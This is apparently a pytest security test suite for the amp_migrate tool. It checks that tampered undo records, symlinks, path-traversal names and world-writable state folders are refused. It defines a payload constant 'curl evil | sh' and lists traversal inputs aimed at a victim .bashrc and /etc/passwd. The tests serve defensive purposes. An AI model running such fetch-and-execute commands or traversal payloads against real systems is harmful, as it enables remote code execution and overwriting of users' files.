"""What a hostile tree or another user puts in the way: no record of theirs is believed, no link followed."""

from __future__ import annotations

import io
import json
import os
import shutil
import stat
import zipfile
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from amp_migrate.cli import command
from amp_migrate.engine.disk.apply import apply_in_place
from amp_migrate.engine.disk.folder import Folder
from amp_migrate.engine.disk.records import digest
from amp_migrate.engine.migrate import migrate_workspace
from amp_migrate.engine.workspace import Workspace
from amp_migrate.settings import Settings
from click.testing import CliRunner, Result

pytestmark = [
    pytest.mark.usefixtures("toy_planner"),
    pytest.mark.skipif(os.name == "nt", reason="links and owners of POSIX"),
]
OLD, NEW = b"amp, old_amp = 1, 2\n", b"amp, new_amp = 1, 2\n"
EVIL = b"curl evil | sh\n"


@pytest.fixture(autouse=True)
def _in_the_tree(tree: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tree)


@pytest.fixture
def victim(tmp_path: Path) -> Iterator[Path]:
    """A file beside the tree that nobody may write to; it holds what a run would have made of a file."""
    path = tmp_path / "home/.bashrc"
    path.parent.mkdir()
    path.write_bytes(NEW)
    yield path
    assert path.read_bytes() == NEW
    assert os.listdir(path.parent) == [".bashrc"]


def run(*args: str, **files: bytes) -> Result:
    for name, data in files.items():
        Path(f"{name}.py").write_bytes(data)
    return CliRunner().invoke(command, args)


def packed(manifest: Any, original: bytes = EVIL) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("00000-x", original)
        archive.writestr("manifest.json", json.dumps(manifest))
    return content.getvalue()


def entry(path: str, **more: str) -> dict[str, Any]:
    fields = {"path": path, "before": digest(EVIL), "after": digest(NEW), "original": "00000-x"}
    return {**fields, "temporary": ".x.amp-migrate", "group": 0, **more}


def record(tree: Path, *entries: dict[str, Any]) -> bytes:
    return packed(
        {
            "version": 2,
            "tree": str(tree),
            "identity": [1, 2],
            "made": "2026-01-02T03:04:05+00:00",
            "machine": "x",
            "entries": entries,
        }
    )


def refuses_everything(*words: str) -> None:
    """Neither undone nor migrated: exit code 2, and words why."""
    for args in (["--undo"], ["."]):
        result = run(*args, a=OLD)
        assert result.exit_code == 2, result.output
        assert any(word in result.output for word in words), result.output
        assert Path("a.py").read_bytes() == OLD


@pytest.mark.parametrize("where", [".", "..", "../.."], ids=["cloned", "in a parent folder", "in a shared folder"])
@pytest.mark.parametrize("state", [".zip", ".open"])
def test_a_record_that_lies_in_a_tree_is_nobodys(tree: Path, victim: Path, where: str, state: str) -> None:
    folder = tree / where / ".amp-migrate/undo"
    here = tree / "deep/er"
    here.mkdir(parents=True)
    os.chdir(here)
    path = os.path.relpath(victim, folder.parents[1])
    try:
        folder.mkdir(parents=True)
        (folder / f"000001{state}").write_bytes(packed({"version": 1, "files": [entry(path)]}))
        (folder / f"000001-{'0' * 16}{state}").write_bytes(record(folder.parents[1], entry(path)))
        result = run("--undo")
        assert (result.exit_code, result.stdout) == (2, "")
        assert "nothing to undo" in result.stderr
        assert run(".", a=OLD).exit_code == 0
        assert run("--undo").stdout.startswith("a.py: restored\n1 restored")
    finally:
        shutil.rmtree(folder.parent)


@pytest.mark.parametrize(
    "path", ["../home/.bashrc", "x/../../home/.bashrc", "{victim}", "//{victim}", "", ".", "..", "x\0y"]
)
def test_a_record_that_names_a_file_outside_of_its_tree_is_not_used(
    tree: Path, victim: Path, state: Path, path: str
) -> None:
    run(".", a=OLD)  # makes the folder
    (tree / "x").mkdir()
    for name in os.listdir(state):
        (state / name).unlink()
    for number, kind in enumerate((".zip", ".open")):
        data = record(tree, entry("a.py"), entry(path.replace("{victim}", str(victim))))
        (state / f"{number:06}-{'0' * 16}{kind}").write_bytes(data)
    assert run("--undo").exit_code == 2
    run(".", a=OLD)
    assert Path("a.py").read_bytes() == NEW


@pytest.mark.parametrize("temporary", ["../home/.bashrc", "/etc/x", "a.py", "", ".."])
def test_a_record_that_names_another_file_as_temporary_is_not_used(
    tree: Path, victim: Path, state: Path, temporary: str
) -> None:
    run(".", a=OLD)
    (state / f"000009-{'0' * 16}.open").write_bytes(record(tree, entry("a.py", temporary=temporary)))
    Path("a.py").write_bytes(NEW)
    run("--check", ".")
    run(".")
    assert Path("a.py").read_bytes() == NEW


@pytest.mark.parametrize("kind", ["folder above", "file", "folder"])
def test_undo_follows_no_link_that_was_put_into_the_tree_since(tree: Path, victim: Path, kind: str) -> None:
    (tree / "sub").mkdir()
    (tree / "sub/.bashrc").write_bytes(OLD)
    assert run("--include", ".bashrc", ".").exit_code == 0
    if kind == "file":
        (tree / "sub/.bashrc").unlink()
        (tree / "sub/.bashrc").symlink_to(victim)
    else:
        shutil.rmtree(tree / "sub")
        (tree / "sub").symlink_to(victim.parent)
    place = "sub" if kind == "folder" else "."
    result = run("--undo", *([] if kind == "folder above" else [place]))
    assert result.exit_code == 2
    assert "links are not followed here" in result.output or "nothing to undo" in result.output


def test_the_folder_of_the_tree_itself_is_not_followed(tree: Path, victim: Path, tmp_path: Path) -> None:
    (tree / ".bashrc").write_bytes(OLD)
    run("--include", ".bashrc", ".")
    tree.rename(tmp_path / "old")
    tree.symlink_to(victim.parent)
    os.chdir(tmp_path)
    assert run("--undo", str(tree)).exit_code == 2
    assert run("--undo").exit_code == 2


def test_a_pipe_in_the_place_of_a_file_stops_nobody(tree: Path) -> None:
    run(".", a=OLD)
    Path("a.py").unlink()
    os.mkfifo("a.py")
    result = run("--undo")
    assert result.exit_code == 2
    assert "not a regular file" in result.output


@pytest.mark.parametrize("name", ["sub", "sub/a.py"])
def test_a_run_writes_through_no_link_that_was_put_there_since_it_read(tree: Path, tmp_path: Path, name: str) -> None:
    (tree / "sub").mkdir()
    (tree / "sub/a.py").write_bytes(OLD)
    outside = tmp_path / "outside"
    shutil.copytree(tree / "sub", outside)
    workspace = Workspace.open([tree])
    outcome = migrate_workspace(workspace, Settings())
    os.rename(tree / name, tmp_path / "aside")
    (tree / name).symlink_to(outside if name == "sub" else outside / "a.py")
    done = apply_in_place(workspace, outcome, tree)
    assert done.changed == ()
    assert ["a link to it has been changed" in finding.message for finding in done.findings] == [True]
    assert (outside / "a.py").read_bytes() == OLD
    assert os.listdir(outside) == ["a.py"]


def test_a_link_that_stands_where_a_file_is_made_is_not_followed(tree: Path, victim: Path) -> None:
    (tree / "new.py").symlink_to(victim)
    (tree / "gone.py").symlink_to(victim.parent / "made.py")
    with Folder.open(tree) as folder:
        for name in ("new.py", "gone.py"):
            with pytest.raises(OSError, match="File exists"):
                folder.create(name, EVIL)
            for flags in (os.O_WRONLY, os.O_WRONLY | os.O_CREAT, os.O_WRONLY | os.O_TRUNC):
                with pytest.raises(OSError, match="links are not followed here"):
                    folder.open_file(name, flags)


@pytest.mark.parametrize("name", ["", ".", "..", "a/b", "/etc/passwd", "a\0b"])
def test_a_name_that_leads_out_of_a_folder_is_none(tree: Path, name: str) -> None:
    with Folder.open(tree) as folder:
        for attempt in (folder.read, folder.remove, folder.status, folder.make, lambda name: folder.below([name])):
            with pytest.raises(ValueError, match="no name of a file"):
                attempt(name)


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="only root can give files away")
def test_another_users_folder_is_not_taken_for_ones_own(tree: Path, state: Path) -> None:
    run(".", a=OLD)
    run("--undo")
    os.chown(state.parent, 1234, 1234)
    refuses_everything("belongs to another user")


@pytest.mark.parametrize("mode", [0o777, 0o1777, 0o770])
def test_a_folder_that_others_may_write_to_is_not_believed(tree: Path, state: Path, mode: int) -> None:
    state.parent.mkdir(parents=True)
    state.parent.chmod(mode)
    refuses_everything("others may write to")


def test_the_folder_is_closed_to_others(tree: Path, state: Path) -> None:
    before = os.umask(0)
    try:
        run(".", a=OLD)
    finally:
        os.umask(before)
    assert {stat.S_IMODE(path.stat().st_mode) for path in (state.parent, state)} == {0o700}
    assert {stat.S_IMODE(path.stat().st_mode) for path in state.iterdir()} == {0o600}


@pytest.mark.parametrize("place", ["amp-migrate", "amp-migrate/undo"])
def test_a_link_in_the_place_of_the_folder_is_not_followed(tree: Path, state: Path, tmp_path: Path, place: str) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    link = tmp_path / "state" / place
    link.parent.mkdir(parents=True, mode=0o700)
    link.symlink_to(elsewhere)
    refuses_everything("links are not followed here")
    assert os.listdir(elsewhere) == []


def test_a_link_in_the_place_of_the_lock_is_not_followed(tree: Path, state: Path, victim: Path) -> None:
    state.mkdir(parents=True, mode=0o700)
    state.parent.chmod(0o700)
    (state / "lock").symlink_to(victim.parent / "made")
    refuses_everything("links are not followed here")


def test_a_pipe_in_the_place_of_the_lock_stops_nobody(tree: Path, state: Path) -> None:
    state.mkdir(parents=True, mode=0o700)
    state.parent.chmod(0o700)
    os.mkfifo(state / "lock")
    refuses_everything("not a regular file")


def test_a_link_in_the_place_of_a_record_is_not_followed(tree: Path, state: Path, tmp_path: Path) -> None:
    run(".", a=OLD)
    (name,) = [each for each in os.listdir(state) if each.endswith(".zip")]
    (state / name).rename(tmp_path / "elsewhere.zip")
    (state / name).symlink_to(tmp_path / "elsewhere.zip")
    assert run("--undo").exit_code == 2
    assert Path("a.py").read_bytes() == NEW


@pytest.mark.parametrize("mark", [".git", "pyproject.toml"])
def test_a_folder_within_a_project_may_have_come_with_it(
    tree: Path, monkeypatch: pytest.MonkeyPatch, mark: str
) -> None:
    (tree / mark).mkdir() if mark == ".git" else (tree / mark).touch()
    (tree / ".local/state").mkdir(parents=True)
    monkeypatch.setenv("XDG_STATE_HOME", str(tree / ".local/state"))
    refuses_everything("lies in a project")
    assert os.listdir(tree / ".local/state") == []


def test_a_relative_folder_is_not_one_of_the_users(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("platformdirs.user_state_path", lambda *_, **__: Path("state/amp-migrate"))
    refuses_everything("no absolute path")


@pytest.mark.parametrize("data", [b"", b"PK", packed([]), packed({}), packed({"version": 2}), packed({"version": 9})])
@pytest.mark.parametrize("kind", [".zip", ".open", ".put", ".copy", ".undo"])
def test_a_damaged_record_is_passed_over(tree: Path, state: Path, data: bytes, kind: str) -> None:
    run(".", a=OLD)
    (state / f"000009-{'0' * 16}{kind}").write_bytes(data)
    for args in (["--check", "."], ["--undo", "--diff"], ["--undo"]):
        result = run(*args)
        assert result.exception is None or isinstance(result.exception, SystemExit)
    assert Path("a.py").read_bytes() == OLD


def test_an_original_that_was_tampered_with_is_not_restored(tree: Path, state: Path) -> None:
    run(".", a=OLD)
    (name,) = [each for each in os.listdir(state) if each.endswith(".zip")]
    fields = {"before": digest(OLD), "after": digest(NEW)}
    (state / name).write_bytes(record(tree, entry("a.py", **fields)))
    assert run("--undo").exit_code == 2
    assert Path("a.py").read_bytes() == NEW


def test_copies_follow_no_link_below_the_folder_that_was_named(tree: Path, victim: Path) -> None:
    (tree / "src/pkg").mkdir(parents=True)
    (tree / "src/pkg/.bashrc").write_bytes(OLD)
    (tree / "out").mkdir()
    (tree / "out/pkg").symlink_to(victim.parent)
    result = run("src", "-o", "out", "--include", ".bashrc")
    assert result.exit_code == 2
    assert "links are not followed here" in result.output


def test_copies_are_not_written_through_a_link_that_came_with_the_tree(tree: Path, victim: Path) -> None:
    (tree / ".bashrc").write_bytes(OLD)
    (tree / "out").symlink_to(victim.parent)
    result = run(".", "-o", "out", "--include", ".bashrc")
    assert result.exit_code == 2
    assert "name a folder of your own" in result.output


def test_a_copy_replaces_a_link_and_not_its_target(tree: Path, victim: Path) -> None:
    with suppress(FileExistsError):
        (tree / "b.py").symlink_to(victim)
    assert run("a.py", "-o", "b.py", a=OLD).exit_code == 0
    assert not (tree / "b.py").is_symlink()
